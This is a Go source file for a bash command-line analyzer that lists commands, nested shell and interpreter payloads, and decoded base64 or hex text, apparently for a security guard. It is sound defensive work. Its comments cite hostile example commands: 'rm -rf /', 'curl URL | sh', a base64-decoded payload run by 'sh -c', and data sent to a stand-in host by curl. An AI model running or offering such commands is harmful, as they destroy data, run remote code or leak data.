package shellx

import (
	"errors"
	"fmt"
	"strconv"
	"strings"
	"sync"

	"mvdan.cc/sh/v3/syntax"
)

// Bounds below the exported Limits: they keep the work on any line linear
// in its size and small in absolute terms.
const (
	// maxNesting is how deep parentheses, braces and backquotes may nest
	// in one text before it is refused without parsing: the syntax
	// parser recurses once per level.
	maxNesting = 256
	// maxOperators caps the | and & in one text: pipelines and && lists
	// nest one level per operator in the syntax tree.
	maxOperators = 2 * MaxCommands
	// maxWork is the budget of work units (AST nodes visited, bytes of
	// payload parsed, words built) for one Parse.
	maxWork = 4 << 20
	// maxWordBytes caps the text of one word or variable value; a longer
	// one is cut and marked Dynamic.
	maxWordBytes = 64 << 10
	// maxBraceWords caps one word's brace expansion.
	maxBraceWords = 64
	// maxUnroll caps how many times a loop body is listed (for loops over
	// literal words); nested loops multiply.
	maxUnroll = 16
	// maxErrs caps how many errors Analysis.Err joins.
	maxErrs = 4
)

// Parse reads line. See Analysis.
//
// # What is listed
//
// Every simple command, wherever it is: pipelines, && || ; & lists,
// subshells, { } blocks, if/while/until/for/select/case (conditions and
// bodies), coproc, time, ! and background commands (listed as the command
// they hold). A command of assignments only (X=1) is listed with no Args.
// declare, export, local, readonly, typeset and nameref are listed as
// commands: Args holds the builtin and its flags, Assigns its NAME=value
// operands. A compound command's redirections ({ ...; } > f, while ...
// done < f) are listed as a command of redirections only, before what it
// holds. [[ ]], (( )) and let list no command, only their substitutions.
// A function body is listed once, where it is defined, Via "function
// NAME"; a call of the function is listed as the command NAME (the body
// is not listed again).
//
// PipeIn: the first simple command of a pipe's right side reads from the
// last simple command of its left side.
//
// # Words
//
// Quotes are removed, $'...' decoded, variables assigned a literal value
// earlier in the line substituted (export/declare/local/readonly too).
// An assignment made inside a branch (if, loops, case, && ||, subshells,
// pipelines, functions, substitutions) is seen in the branch and unknown
// after it. An unquoted expansion of a known value is split into fields
// (X="rm -rf"; $X / lists rm -rf /), unless the line sets IFS (then one
// Dynamic word). $HOME, ${HOME} and a leading ~ or ~/ are written "~";
// ~user, ~+ and ~- are kept as written, Dynamic. ${X:-default},
// ${X:=default}: X's value when known, else the default, Dynamic (the
// environment may set X). ${X:+alt}, ${X#p}, ${X%p} (literal p), ${X^^}
// and ${X,,} are computed for a known X; every other expansion ($UNKNOWN,
// $1, ${#X}, ${X/a/b}, $(...), `...`, $((...)), <(...)) is kept as
// written, Dynamic. Brace expansion makes several words (at most
// maxBraceWords, else one Dynamic word as written). Glob is set by an
// unquoted *, ? or [...] (a URL with ? is a Glob word, as the shell
// sees it) and by an extglob.
//
// A for (or select) loop over literal words lists its body once per word
// with the variable set to it, while the unrolled total (nested loops
// multiply) stays within maxUnroll; a glob item sets the variable to the
// pattern and words using it are Glob; otherwise the body is listed once
// with the variable unknown. A C-style for loop lists its body once.
//
// # Nested commands and payloads
//
// Command and process substitutions are listed after their command, Via
// "$()", "<()", ">()" (backquotes: two backquote characters), at the
// same Depth. Shell payloads are
// parsed one Depth deeper (beyond MaxDepth: ErrTooDeep), with their own
// Line offsets. eval, alias, trap and source run in the line's shell and
// see all its variables; a new process (sh -c, an interpreter) sees the
// exported ones (export, declare -x) and its command's NAME=value
// prefixes; ssh and docker/kubectl payloads see none.
//   - NAME -c (NAME: sh bash dash zsh ksh ash mksh...; flags combined as
//     -lc, -ec; -o OPT skipped): Via "NAME -c". A Dynamic payload is
//     parsed as written (its unknown parts stay Dynamic words), unless it
//     is a substitution whose output is known (sh -c "$(echo ...|base64
//     -d)"), which is parsed instead.
//   - eval ARGS (joined with spaces): Via "eval"; su/runuser -c: "su -c",
//     "runuser -c"; script -c: "script -c"; flock -c: "flock -c"; watch
//     CMD...: "watch"; parallel CMD ::: ...: "parallel"; ssh HOST CMD...:
//     "ssh HOST"; alias NAME='...': "alias"; trap 'CMD' SIG: "trap";
//     source/. <(...) with a known output: "source".
//   - The wrappers nohup, timeout, nice, env (incl. -S), sudo, doas, exec,
//     command, stdbuf, setsid, time, ionice, chroot DIR, taskset, xargs,
//     flock FILE, busybox, runuser -- are peeled to find a shell or an
//     interpreter; the wrapper command itself is listed as written (the
//     caller peels wrappers for its own judgement). docker|podman|nerdctl
//     and kubectl|oc: the shell from their arguments (kubectl: after --),
//     Via "docker > sh -c", "kubectl > sh -c".
//   - find -exec|-execdir|-ok|-okdir CMD ... ; or +: CMD is listed as a
//     command, Via "find -exec", same Depth, Line the find command's; what
//     CMD runs (sh -c ...) is read like any command.
//   - A shell reading its script on stdin (no -c and no script operand,
//     or -s) when that input is known: a here-document or here-string
//     (Via "sh <<"), < <(...) with a known output (Via "sh <<"), a pipe
//     from a known producer (Via "| sh"), or a script operand <(...) with
//     a known output (Via "sh <()"). Known producers: echo (-n, -e),
//     printf (format applied to its operands), cat of its stdin, and one
//     decoder per pipe stage: base64 -d/--decode/-D, openssl base64 -d,
//     openssl enc -base64 -d, xxd -r -p, rev, tr ROT13. Each decoder
//     names itself in Via: "base64 > | sh", "hex > | sh". An unknown
//     producer (curl URL | sh) adds nothing: PipeIn shows the pipe.
//   - Interpreters (python, node, deno, bun, perl, ruby, php, osascript,
//     awk): see interp.go. Their code's string literals are Literals
//     (Source "python -c", "node -e", "perl -e", "ruby -e", "php -r",
//     "bun -e", "deno eval", "osascript -e", "awk"; code read from stdin:
//     "python <<" or "| python"); the commands they run are listed Via
//     the same name, one Depth deeper. Their Line is the literal's text,
//     "…" standing for an operand concatenated to it that is not a
//     literal ('curl https://e.example/?d=' + data: "curl
//     https://e.example/?d=…"), or the call's text for an argv list.
//
// # Encoded data
//
// A word or literal of at least 16 characters that is base64 (standard or
// URL alphabet, padded or not) or hex (even length) decoding to printable
// text adds a Literal (Source "base64" or "hex") with the decoded text;
// so do the decoders above (Source "base64", "hex", "rev", "rot13") and
// echo -e or printf with character codes (\x63, \143, \u0063: Source
// "printf"). Decoded text that is run (piped into a shell, eval'ed, run by
// an interpreter's exec call) is parsed as well.
//
// # Limits
//
// Err is set, and what was read before kept, on a syntax error (the first
// statement in error and those after it are not listed), a line over
// MaxLineBytes (nothing listed), payloads deeper than MaxDepth, more than
// MaxCommands commands or MaxLiterals literals, brackets nested deeper
// than maxNesting or more than maxOperators | and & in one text (refused
// before parsing: the syntax parser recurses per level), or more than
// maxWork units of work. Several errors are joined (at most maxErrs).
func Parse(line string) (a Analysis) {
	p := &parser{work: maxWork}
	if len(line) > MaxLineBytes {
		p.fail(fmt.Errorf("%w: %d bytes, the limit is %d", ErrTooLong, len(line), MaxLineBytes))
		return p.a
	}
	defer func() {
		// A bug here must not let a line through: it is an Err, and
		// Shield escalates.
		if r := recover(); r != nil {
			p.a.Err = fmt.Errorf("%w: %v", ErrInternal, r)
			a = p.a
		}
	}()
	p.hint = commandsHint(line)
	p.shell(line, &ctx{sc: newScope(), mult: 1}, "")
	return p.a
}

// parser holds one Parse's result and budgets.
type parser struct {
	a Analysis
	// subshells counts the ( ) met, to name each one's nesting.
	subshells int
	errs      []error
	work      int
	// pending are the command and process substitutions met while
	// building a command's words; the command walks them after it is
	// listed (nested commands come after the one holding them).
	pending []pending
	// pushed holds the substitutions in pending (by first statement).
	pushed map[*syntax.Stmt]bool
	// literals holds the literals listed, by source and text.
	literals map[[2]string]bool
	// pipeFrom is the index of the command whose output the next simple
	// command listed reads (-1: none).
	pipeFrom int
	hasPipe  bool
	// out holds, per listed command, its standard output when it is
	// known statically (echo of literals, base64 -d of known text...).
	out []staticOut
	// substs are the substitutions met so far, by their text.
	substs map[string]subst
	// quiet > 0 drops substitutions instead of listing them (words
	// evaluated twice, or only to compute a static output).
	quiet int
	// env holds the NAME=value prefixes of the command whose payloads are
	// being read: the environment of the process it starts.
	env []Assign
	// procModule: the interpreter code being read imports a process
	// module, so a weak exec name called on any module counts.
	procModule bool
	// hint is the capacity Commands starts with.
	hint int
	// stop is set once a limit is reached: nothing more is listed.
	stop bool
	// funcs are the functions each shell being read defines, innermost
	// last (a function is the shell's that defines it: sh -c does not
	// see its parent's).
	funcs []*funcScope
}

// funcScope holds the functions one shell defines: each is listed where
// it is called, with the call's arguments as its positional parameters,
// and, never called, once at the end with them unknown (rules 17).
type funcScope struct {
	decls  map[string]funcDecl
	order  []string
	called map[string]bool
	active map[string]bool
}

// funcDecl is a function's body and the context it was defined in.
type funcDecl struct {
	body *syntax.Stmt
	c    *ctx
}

// pending is a substitution to walk after its command is listed.
type pending struct {
	stmts []*syntax.Stmt
	label string // "$()", "``", "<()", ">()"
}

// staticOut is what a command writes to its standard output, when known.
type staticOut struct {
	text  string
	known bool
	// chain names the decoders the text went through ("base64"), for Via.
	chain string
}

// ctx is where a statement is: the text it was parsed from, what it is
// nested in, and its variables.
type ctx struct {
	src   string
	via   string
	depth int
	sc    *scope
	// mult is how many times the enclosing loops are already unrolled.
	mult int
	// remote: a shell payload read from here runs on another machine or
	// in a container (ssh, docker exec): it sees none of our variables.
	remote bool
	// dyn marks a text built from an interpreter's string concatenation:
	// dynPlaceholder in it stands for the unknown parts.
	dyn bool
}

func (c *ctx) with(via string) *ctx {
	n := *c
	n.via = joinVia(c.via, via)
	return &n
}

func joinVia(outer, inner string) string {
	switch {
	case outer == "":
		return inner
	case inner == "":
		return outer
	}
	return outer + " > " + inner
}

// fail records err (the first maxErrs are kept).
func (p *parser) fail(err error) {
	for _, e := range p.errs {
		if e.Error() == err.Error() {
			return
		}
	}
	if len(p.errs) < maxErrs {
		p.errs = append(p.errs, err)
		if len(p.errs) == 1 {
			p.a.Err = err
		} else {
			p.a.Err = errors.Join(p.errs...)
		}
	}
}

// spend takes n units of work; it reports false (and stops the parse)
// when the budget is spent.
func (p *parser) spend(n int) bool {
	if p.stop {
		return false
	}
	p.work -= n
	if p.work < 0 {
		p.stop = true
		p.fail(fmt.Errorf("%w: the line needs more than %d units of work", ErrTooMuchWork, maxWork))
		return false
	}
	return true
}

var parsers = sync.Pool{New: func() any {
	return syntax.NewParser(syntax.Variant(syntax.LangBash))
}}

// shell parses text as bash and walks every statement in it, in ctx c;
// what names the payload in errors ("" for the line itself).
func (p *parser) shell(text string, c *ctx, what string) {
	if p.stop {
		return
	}
	if c.depth > MaxDepth {
		p.fail(errTooDeep(c.via, ""))
		return
	}
	if !p.spend(len(text) + 1) {
		return
	}
	if n := nesting(text); n > maxNesting {
		p.fail(fmt.Errorf("%w: %sparentheses, braces or quotes nested %d deep, more than %d", ErrTooDeep, errWhere(what), n, maxNesting))
		return
	}
	if n := strings.Count(text, "|") + strings.Count(text, "&"); n > maxOperators {
		p.fail(fmt.Errorf("%w: %s%d | and & operators, more than %d", ErrTooDeep, errWhere(what), n, maxOperators))
		return
	}
	if n := substitutions(text); n > MaxCommands {
		// Each lists a command at least: refused before parsing.
		p.stop = true
		p.fail(fmt.Errorf("%w: %s%d command substitutions, more than %d", ErrTooMany, errWhere(what), n, MaxCommands))
		return
	}
	c.src = text
	fs := &funcScope{decls: map[string]funcDecl{}, called: map[string]bool{}, active: map[string]bool{}}
	p.funcs = append(p.funcs, fs)
	if err := p.parseStmts(text, func(s *syntax.Stmt) bool {
		p.stmt(s, c)
		return !p.stop
	}); err != nil {
		p.fail(fmt.Errorf("%w: %s%s", ErrSyntax, errWhere(what), describeSyntaxErr(err)))
	}
	// A function never called is listed once, where it was defined, with
	// its parameters unknown (it could be exported and run elsewhere).
	for _, name := range fs.order {
		if d := fs.decls[name]; !fs.called[name] && !p.stop {
			in := d.c.with("function " + name)
			d.c.sc.branch(func() { p.stmt(d.body, in) })
		}
	}
	p.funcs = p.funcs[:len(p.funcs)-1]
}

// isFunction reports whether cmd calls a function the shell being read
// defines (not from within its own body: a recursion is listed as the
// program by that name).
func (p *parser) isFunction(cmd *Command) bool {
	if len(p.funcs) == 0 || len(cmd.Args) == 0 || cmd.Args[0].Dynamic {
		return false
	}
	fs := p.funcs[len(p.funcs)-1]
	_, ok := fs.decls[cmd.Args[0].Text]
	return ok && !fs.active[cmd.Args[0].Text]
}

// callFunction lists the body of the function the shell being read
// defines and cmd calls, with cmd's arguments as its positional
// parameters, and reports whether it did (then cmd is not a program).
func (p *parser) callFunction(cmd *Command, c *ctx) bool {
	if !p.isFunction(cmd) {
		return false
	}
	fs := p.funcs[len(p.funcs)-1]
	name := cmd.Args[0].Text
	d := fs.decls[name]
	fs.called[name] = true
	fs.active[name] = true
	in := c.with("function " + name)
	c.sc.branch(func() {
		args := cmd.Args[1:]
		for i := 1; i <= 9; i++ {
			v := value{known: true}
			if i <= len(args) {
				v = value{text: args[i-1].Text, known: !args[i-1].Dynamic}
			}
			c.sc.set(strconv.Itoa(i), v)
		}
		c.sc.set("#", value{text: strconv.Itoa(len(args)), known: true})
		// "$@" and "$*" are one word here: known only for one argument
		if len(args) == 1 {
			c.sc.set("@", value{text: args[0].Text, known: !args[0].Dynamic})
			c.sc.set("*", value{text: args[0].Text, known: !args[0].Dynamic})
		} else {
			c.sc.set("@", value{})
			c.sc.set("*", value{})
		}
		p.stmt(d.body, in)
	})
	fs.active[name] = false
	return true
}

// parseStmts parses text and calls fn with each statement until it
// returns false or a syntax error is met (returned).
//
// syntax.Parser's statement iterator yields once more after being told
// to stop when an error is pending (a runtime panic in the range loop):
// that panic is recovered here, and the parser dropped rather than
// reused.
func (p *parser) parseStmts(text string, fn func(*syntax.Stmt) bool) (err error) {
	sp := parsers.Get().(*syntax.Parser)
	stopped := false
	defer func() {
		if r := recover(); r != nil {
			if !stopped {
				panic(r)
			}
			return
		}
		parsers.Put(sp)
	}()
	for s, serr := range sp.StmtsSeq(strings.NewReader(text)) {
		if serr != nil {
			err = serr
			stopped = true
			break
		}
		if !fn(s) {
			stopped = true
			break
		}
	}
	return err
}

// substitutions counts the command and process substitutions text may
// hold ($(, backquote pairs, <(, >(), an over-estimate.
func substitutions(text string) int {
	n := strings.Count(text, "$(") - strings.Count(text, "$((") +
		strings.Count(text, "<(") + strings.Count(text, ">(")
	return n + strings.Count(text, "`")/2
}

func errWhere(what string) string {
	if what == "" {
		return ""
	}
	return what + " payload: "
}

func describeSyntaxErr(err error) string {
	var pe syntax.ParseError
	if errors.As(err, &pe) {
		return fmt.Sprintf("line %d col %d: %s", pe.Pos.Line(), pe.Pos.Col(), pe.Text)
	}
	var le syntax.LangError
	if errors.As(err, &le) {
		return fmt.Sprintf("line %d col %d: %s", le.Pos.Line(), le.Pos.Col(), le.Error())
	}
	return err.Error()
}

// nesting is a cheap over-estimate of how deep text nests brackets and
// backquotes (quotes are ignored: a bracket inside quotes counts too). The
// syntax parser recurses per level, so a deep text is refused before it
// is parsed.
func nesting(text string) int {
	depth, most, tick := 0, 0, 0
	for i := 0; i < len(text); i++ {
		switch text[i] {
		case '(', '{', '[':
			depth++
		case ')', '}', ']':
			if depth > 0 {
				depth--
			}
		case '`':
			tick ^= 1
			if tick == 1 {
				depth++
			} else if depth > 0 {
				depth--
			}
		case '\\':
			// \` nests backquotes one level deeper.
			if i+1 < len(text) && text[i+1] == '`' {
				depth++
				i++
			}
		}
		if depth > most {
			most = depth
		}
	}
	return most
}

// add lists cmd and returns its index, or -1 once MaxCommands is reached.
func (p *parser) add(cmd Command) int {
	if p.stop {
		return -1
	}
	if len(p.a.Commands) >= MaxCommands {
		p.stop = true
		p.fail(fmt.Errorf("%w: more than %d commands", ErrTooMany, MaxCommands))
		return -1
	}
	if p.a.Commands == nil {
		p.a.Commands = make([]Command, 0, p.hint)
		p.out = make([]staticOut, 0, p.hint)
	}
	p.a.Commands = append(p.a.Commands, cmd)
	p.out = append(p.out, staticOut{})
	return len(p.a.Commands) - 1
}

// literal lists a literal.
func (p *parser) literal(source, text string) {
	if p.stop || text == "" {
		return
	}
	if len(p.a.Literals) >= MaxLiterals {
		p.stop = true
		p.fail(fmt.Errorf("%w: more than %d literals", ErrTooMany, MaxLiterals))
		return
	}
	if !p.spend(len(text)) {
		return
	}
	key := [2]string{source, text}
	if p.literals[key] {
		return
	}
	if p.literals == nil {
		p.literals = map[[2]string]bool{}
	}
	p.literals[key] = true
	p.a.Literals = append(p.a.Literals, Literal{Source: source, Text: text})
}

// dynName is the variable standing for the unknown parts of a text built
// by string concatenation in interpreter code; dynPlaceholder is how it
// is written into that text.
const (
	dynName        = "__shellx_dynamic__"
	dynPlaceholder = "${" + dynName + "}"
)

// commandsHint guesses how many commands line lists (one, plus one per
// operator or opening parenthesis), to size Commands once.
func commandsHint(line string) int {
	n := 1
	for i := 0; i < len(line) && n < 64; i++ {
		switch line[i] {
		case '|', ';', '&', '\n', '(', '`':
			n++
		}
	}
	return n
}
